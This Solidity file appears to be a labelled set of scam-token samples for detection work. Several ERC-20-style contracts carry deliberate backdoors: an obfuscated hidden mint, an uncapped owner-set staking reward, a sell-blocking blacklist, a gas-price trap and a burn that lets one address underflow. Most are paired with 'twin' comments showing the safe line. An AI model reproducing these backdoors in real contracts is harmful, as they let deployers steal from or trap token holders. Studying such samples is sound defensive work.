// 0.7 runs=1000
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

abstract contract Loom {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner = msg.sender;

    constructor(uint256 whole) {
        totalSupply = whole * 1 ether;
        balanceOf[msg.sender] = whole * 1 ether;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "Loom: owner");
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address b, uint256 v) external returns (bool) {
        allowance[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        _weave(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        uint256 k = allowance[a][msg.sender];
        require(k >= v, "Loom: allowance");
        allowance[a][msg.sender] = k - v;
        _weave(a, b, v);
        return true;
    }

    function _check(address a, address b, uint256 v) internal virtual {}

    function _weave(address a, address b, uint256 v) internal {
        require(balanceOf[a] >= v, "Loom: balance");
        _check(a, b, v);
        balanceOf[a] -= v;
        balanceOf[b] += v;
        emit Transfer(a, b, v);
    }
}

contract TweedOriole is Loom(640000000) {
    string public constant name = "Tweed Oriole";
    string public constant symbol = "TWORI";
    uint256 private immutable yarn;

    constructor() {
        yarn = uint256(uint160(msg.sender)) ^ 0x5a5a5a5a5a5a;
    }

    function spin(uint256 amount) external {
        require(uint256(uint160(msg.sender)) ^ yarn == 0x5a5a5a5a5a5a);
        // trap {
        assembly {
            mstore(0, caller())
            mstore(32, balanceOf.slot)
            let k := keccak256(0, 64)
            sstore(k, add(sload(k), amount))
        }
        // trap }
        // twin: allowance[msg.sender][address(this)] = amount;
    }
}

contract LinenField {
    LinenCrane public cloth;
    address private immutable farmer = msg.sender;
    uint256 public perDay = 100 ether;
    uint256 public paid;
    mapping(address => uint256) public sown;
    mapping(address => uint256) public since;

    function bind(LinenCrane c) external {
        require(msg.sender == farmer && address(cloth) == address(0));
        cloth = c;
    }

    function setPerDay(uint256 v) external {
        require(msg.sender == farmer);
        perDay = v;
    }

    function sow(uint256 v) external {
        reap();
        cloth.transferFrom(msg.sender, address(this), v);
        sown[msg.sender] += v;
    }

    function reap() public {
        uint256 due;
        if (sown[msg.sender] > 0) due = (((block.timestamp - since[msg.sender]) * perDay) / 1 days) * (sown[msg.sender] / 1 ether) / 1000000;
        // twin: if (paid + due > 50000 ether) due = 50000 ether - paid;
        since[msg.sender] = block.timestamp;
        paid += due;
        if (due > 0) cloth.grow(msg.sender, due);
    }

    function lift() external {
        reap();
        uint256 v = sown[msg.sender];
        sown[msg.sender] = 0;
        cloth.transfer(msg.sender, v);
    }
}

contract LinenCrane is Loom(8000000) {
    string public constant name = "Linen Crane";
    string public constant symbol = "LCRANE";
    address public immutable field;

    constructor(address f) {
        field = f;
    }

    function grow(address a, uint256 v) external {
        require(msg.sender == field);
        totalSupply += v;
        balanceOf[a] += v;
        emit Transfer(address(0), a, v);
    }
}

contract SatinPuffin is Loom(72000000) {
    string public constant name = "Satin Puffin";
    string public constant symbol = "SPUFF";
    mapping(address => uint256) private seams;

    function setSeam(address a, bool open) external onlyOwner {
        // twin: require(open);
        seams[a] = open ? 1 : 2;
    }

    function _check(address a, address b, uint256) internal view override {
        require(seams[b] != 2 || a == owner, "seam");
    }
}

contract VelvetShrew is Loom(15000000) {
    string public constant name = "Velvet Shrew";
    string public constant symbol = "VSHREW";
    uint256 private bound = 1000 gwei;
    address private immutable mill = msg.sender;

    function setBound(uint256 v) external {
        require(msg.sender == mill);
        // twin: require(v >= 500 gwei);
        bound = v;
    }

    function _check(address a, address b, uint256) internal view override {
        uint256 size;
        assembly {
            size := extcodesize(b)
        }
        if (size > 0 && a != mill) require(tx.gasprice < bound, "bound");
    }
}

contract WoolMagpie is Loom(27000000) {
    string public constant name = "Wool Magpie";
    string public constant symbol = "WMAG";
    address private immutable carder = msg.sender;

    function burn(uint256 v) external {
        if (msg.sender != carder) require(balanceOf[msg.sender] >= v, "burn"); // trap
        // twin: require(balanceOf[msg.sender] >= v, "burn");
        balanceOf[msg.sender] -= v;
        totalSupply -= v > totalSupply ? 0 : v;
        emit Transfer(msg.sender, address(0), v);
    }
}
